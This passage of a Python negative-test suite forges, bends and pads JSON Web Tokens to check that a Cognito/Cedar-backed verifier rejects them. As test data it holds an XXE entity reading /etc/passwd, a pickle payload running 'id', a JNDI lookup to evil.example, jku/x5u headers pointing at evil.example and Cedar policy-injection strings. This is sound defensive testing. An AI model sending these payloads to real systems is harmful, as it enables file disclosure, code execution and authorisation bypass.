    "a NUL in a text": lambda data: data[:-1] + b',"x":"a\0b"}',
    "a NUL behind": lambda data: data + b"\0",
    "a form feed before": lambda data: b"\f" + data,
    "another object behind": lambda data: data + data,
    "in a list": lambda data: b"[" + data + b"]",
    "in a text": lambda data: json.dumps(data.decode()).encode(),
    "an empty list": lambda data: b"[]",
    "null": lambda data: b"null",
    "a number": lambda data: b"1",
    "blanks": lambda data: b"   ",
    "cut off": lambda data: data[:-1],
    "opened twice": lambda data: b"{" + data,
    "20,000 lists": lambda data: data[:-1] + b',"x":' + b"[" * 20_000 + b"]" * 20_000 + b"}",
    "20,000 lists that do not end": lambda data: data[:-1] + b',"x":' + b"[" * 20_000,
    "20,000 objects that do not end": lambda data: data[:-1] + b',"x":' + b'{"":' * 20_000,
    "19,000 objects": lambda data: data[:-1] + b',"x":' + b'{"":' * 19_000 + b"1" + b"}" * 19_000 + b"}",
    "5,000 digits": lambda data: data[:-1] + b',"x":' + b"9" * 5_000 + b"}",
    "5,000 digits in a name's value": lambda data: data[:-1] + b',"x":{"y":[' + b"1" * 5_000 + b"]}}",
    "NaN": lambda data: data[:-1] + b',"x":NaN}',
    "Infinity": lambda data: data[:-1] + b',"x":[Infinity]}',
    "a name twice, deep": lambda data: data[:-1] + b',"x":[{"a":1,"a":1}]}',
    "YAML": lambda data: b"alg: RS256\niss: " + ISSUER.encode(),
    "XML": lambda data: b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "a pickle": lambda data: b"cos\nsystem\n(S'id'\ntR.",
    "CBOR": lambda data: b"\xa1\x01\x26",
}


# --- Signatures ----------------------------------------------------------------------------------------------------


def signatures() -> Iterator[Attack]:
    """Signatures by another key, cut, bent, moved; and what they stand for changed below them."""
    yield Attack("by another key", lambda lab: lab.forged(), "signature")
    yield Attack("by another key, an access token", lambda lab: lab.forged("access"), "signature", "access")
    for length in (1, 2, 64, 128, 254, 255):
        yield Attack(f"cut to {length} bytes", lambda lab, n=length: resigned(lab, lambda s: s[:n]), "signature")
    for name, change in BENT.items():
        yield Attack(name, lambda lab, change=change: resigned(lab, change), "signature")
    for bit in range(0, 2048, 64):
        yield Attack(f"bit {bit}", lambda lab, bit=bit: resigned(lab, lambda s: flipped(s, bit)), "signature")
    for name in BLOCKS:
        yield Attack(name, lambda lab, name=name: lab.by_block(name), "signature")
    yield Attack("a signature larger than the modulus", larger, "signature")
    yield Attack("of another token", lambda lab: moved(lab, lab.claiming(email='"a@example.com"')), "signature")
    yield Attack("of an access token", lambda lab: moved(lab, lab.good("access")), "signature")
    yield Attack("of another header", lambda lab: moved(lab, lab.good(typ='"JWT"')), "signature")
    for name, changes in CHANGED.items():
        yield Attack(f"changed: {name}", lambda lab, changes=changes: swapped(lab, changes), "signature")
    yield Attack("changed: a blank in the payload", lambda lab: respaced(lab, 1), "signature")
    yield Attack("changed: a blank in the header", lambda lab: respaced(lab, 0), "signature")
    yield Attack("header and payload exchanged", exchanged, ANY)
    for index, name in ((0, "header"), (1, "payload")):
        for place in range(0, 400 if index else 72, 10 if index else 6):
            yield Attack(f"bit of the {name} at {place}", lambda lab, i=index, place=place: bent(lab, i, place), ANY)
    for depth in (200, 500, 900, 950, 975, 985, 990, 995, 1_000, 1_100):
        value = "[" * depth + "]" * depth
        yield Attack(f"a header {depth} deep, by another key", lambda lab, v=value: lab.forged(x=v), ANY)


BENT: dict[str, Callable[[bytes], bytes]] = {
    "a byte more": lambda signature: signature + b"\0",
    "a byte before": lambda signature: b"\0" + signature,
    "twice": lambda signature: signature * 2,
    "zeros": lambda signature: bytes(256),
    "a one": lambda signature: bytes(255) + b"\1",
    "ones": lambda signature: b"\xff" * 256,
    "reversed": lambda signature: signature[::-1],
    "halves exchanged": lambda signature: signature[128:] + signature[:128],
    "hexadecimal": lambda signature: signature.hex().encode(),
    "in text": lambda signature: base64.b64encode(signature),
}
CHANGED: dict[str, dict[str, str | None]] = {
    "sub": {"sub": '"mona"'},
    "groups": {"cognito:groups": '["moderators","admins"]'},
    "no groups": {"cognito:groups": None},
    "a later expiry": {"exp": "9999999999"},
    "an earlier expiry": {"exp": "1"},
    "client": {"aud": '"other"'},
    "kind": {"token_use": '"access"', "client_id": '"client-1"'},
    "the updated issuer": {"iss": text(ISSUER.replace("cognito-idp", "issuer-cognito-idp"))},
    "an entity": {"role": '{"__entity":{}}'},
}


def resigned(lab: Lab, change: Callable[[bytes], bytes]) -> str:
    header, payload, signature = lab.good().split(".")
    return f"{header}.{payload}.{encode(change(decode(signature)))}"


def flipped(data: bytes, bit: int) -> bytes:
    number = int.from_bytes(data, "big") ^ (1 << bit)
    return number.to_bytes(len(data), "big")


def larger(lab: Lab) -> str:
    """The signature plus the modulus: the same number to arithmetic (RFC 8017 section 8.2.2, step 2)."""
    modulus = lab.key.public_key().public_numbers().n
    for number in range(1_000):
        token = lab.claiming(n=text(number))
        larger = int.from_bytes(decode(token.split(".")[2]), "big") + modulus
        if larger < 2**2048:
            return f"{token.rpartition('.')[0]}.{encode(larger.to_bytes(256, 'big'))}"
    raise AssertionError("no signature is small enough")


def moved(lab: Lab, other: str) -> str:
    return f"{lab.good().rpartition('.')[0]}.{other.rpartition('.')[2]}"


def swapped(lab: Lab, changes: dict[str, str | None]) -> str:
    header, _, signature = lab.good().split(".")
    return f"{header}.{encode(text_of(lab.claims(changes=changes)))}.{signature}"


def respaced(lab: Lab, index: int) -> str:
    segments = lab.good().split(".")
    segments[index] = encode(decode(segments[index]) + b" ")
    return ".".join(segments)


def exchanged(lab: Lab) -> str:
    header, payload, signature = lab.good().split(".")
    return f"{payload}.{header}.{signature}"


def bent(lab: Lab, index: int, place: int) -> str:
    segments = lab.good().split(".")
    segment = segments[index]
    letter = "A" if segment[place] != "A" else "B"
    segments[index] = segment[:place] + letter + segment[place + 1 :]
    return ".".join(segments)


def lengths() -> Iterator[Attack]:
    """Up to the limit of Amazon Verified Permissions a token is looked at, beyond it is not."""
    yield Attack("131,072 letters", lambda lab: "a" * 131_072, "malformed")
    yield Attack("131,073 letters", lambda lab: "a" * 131_073, "too_large")
    yield Attack("a forged token of 131,072 characters", lambda lab: long(lab, 131_072), "signature")
    yield Attack("a forged token of 131,073 characters", lambda lab: long(lab, 131_073), "too_large")
    yield Attack("a genuine token of 150,000 characters", lambda lab: lab.claiming(x=text("x" * 112_000)), "too_large")
    yield Attack("a million letters", lambda lab: "a" * 1_000_000, "too_large")
    yield Attack("five million letters", lambda lab: "a" * 5_000_000, "too_large")
    yield Attack("a million dots", lambda lab: "." * 1_000_000, "too_large")
    yield Attack("60,000 segments", lambda lab: "a." * 60_000, "malformed")
    yield Attack("a signature of 60,000 bytes", lambda lab: resigned(lab, lambda s: s * 234), "signature")
    yield Attack("60,000 letters", lambda lab: "a" * 60_000, "malformed")
    yield Attack("30,000 claims", many_claims, "signature")


def long(lab: Lab, length: int) -> str:
    """A forged token of exactly this length."""
    key = lab.forger._private_key
    for extra in range(4):
        header = lab.header(x=text("x" * extra))
        empty = len(lab.signed(header, lab.claims(changes={"x": '""'}), key))
        start = (length - empty) * 3 // 4
        for size in range(start - 4, start + 5):
            token = lab.signed(header, lab.claims(changes={"x": text("x" * size)}), key)
            if len(token) == length:
                return token
    raise AssertionError("no token has this length")


def many_claims(lab: Lab) -> str:
    names = [(f"{number:x}", "0") for number in range(8_000)]
    return lab.signed(lab.header(), [*lab.claims(), *names], lab.forger._private_key)


FAMILIES: dict[str, Callable[[], Iterator[Attack]]] = {
    "algorithms": algorithms,
    "header parameters": parameters,
    "key ids": key_ids,
    "claims": claims,
    "groups": groups,
    "subs": subjects,
    "kinds": token_uses,
    "issuers": issuers,
    "Cedar's escapes": reserved,
    "spellings": spellings,
    "junk": junk,
    "signatures": signatures,
    "lengths": lengths,
}


def oddities() -> Iterator[Oddity]:
    """Genuine tokens: what looks like an attack in them is data, and opens nothing."""
    for kind in KINDS:
        yield Oddity(f"{kind}: as it should be", lambda lab, kind=kind: lab.good(kind), 200, kind)
        for claim, value in product(("iat", "auth_time", "origin_jti", "event_id"), WRONG):
            yield odd_claim(kind, claim, value)
        # The schema says what this one is.
        declared = {"id": "email", "access": "scope"}[kind]
        for value in WRONG:
            is_absent = value in UNHOLDABLE or (declared == "scope" and value == "[]")
            yield odd_claim(kind, declared, value, 200 if is_absent else 403)
        for name in INJECTIONS:
            yield Oddity(
                f"{kind}: sub {name!r}",
                lambda lab, k=kind, n=name: lab.claiming(k, sub=text(n), **{"cognito:groups": None}),
                403,
                kind,
            )
            yield Oddity(
                f"{kind}: group {name!r}",
                lambda lab, k=kind, n=name: lab.claiming(k, **{"cognito:groups": text([n])}),
                403,
                kind,
            )
        names = text([*map(str, range(200)), "moderators"])
        # More than Amazon Verified Permissions takes; and deeper than Python may call.
        yield odd_claim(kind, "cognito:groups", names, 403)
        for depth, status in ((50, 200), (900, 403)):
            yield odd_claim(kind, "x", "[" * depth + "]" * depth, status)
        for value in map(text, ("\ud800", "\0", "a\nb", '") || true || ("', "\u2028", "x" * 10_000)):
            yield odd_claim(kind, "custom:x", value)
    for name, value in ODD_PARAMETERS.items():
        yield Oddity(f"{name} is {value[:20]}", lambda lab, n=name, v=value: lab.good(**{n: v}))
    yield Oddity("alg is escaped", lambda lab: lab.good(alg='"\\u0052S256"'))
    yield Oddity(
        "the updated issuer", lambda lab: lab.claiming(iss=text(ISSUER.replace("cognito-idp", "issuer-cognito-idp")))
    )
    yield Oddity("nbf is now", lambda lab: lab.claiming(nbf=text(lab.now)))


def odd_claim(kind: str, claim: str, value: str, status: int = 200) -> Oddity:
    """One claim with another value."""
    shown = value if len(value) < 40 else f"{value[:10]}… of {len(value)}"
    return Oddity(f"{kind}: {claim} is {shown}", lambda lab: lab.claiming(kind, **{claim: value}), status, kind)


# Cedar has no null and no fractions: such an attribute is absent.
UNHOLDABLE = ("null", "1.5", "1e400", "-1e400")
INJECTIONS = (
    *(
        '") || true || ("',
        '"); permit(principal, action, resource); //',
        f'{POOL}|moderators" || "',
        "moderators\\",
        "*",
    ),
    *(f'PhotoFlash::Group::"{POOL}|moderators"', f"{POOL}|moderators", "Moderators", " moderators", "moderators ", "'"),
    *(
        "${jndi:ldap://evil.example/a}",
        "{{ request }}",
        "%s",
        "../moderators",
        "<b>",
        "m\u043ederators",
        "a\tb",
        "\x01",
    ),
)
ODD_PARAMETERS = {
    "typ": '"at+jwt"',
    "cty": '"JWT"',
    "zip": '"DEF"',
    "jku": '"https://evil.example/jwks"',
    "x5u": '"https://evil.example/cert"',
    "jwk": '{"kty":"oct","k":"AAAA"}',
    "b64": "true",
    "x5c": "[5]",
}
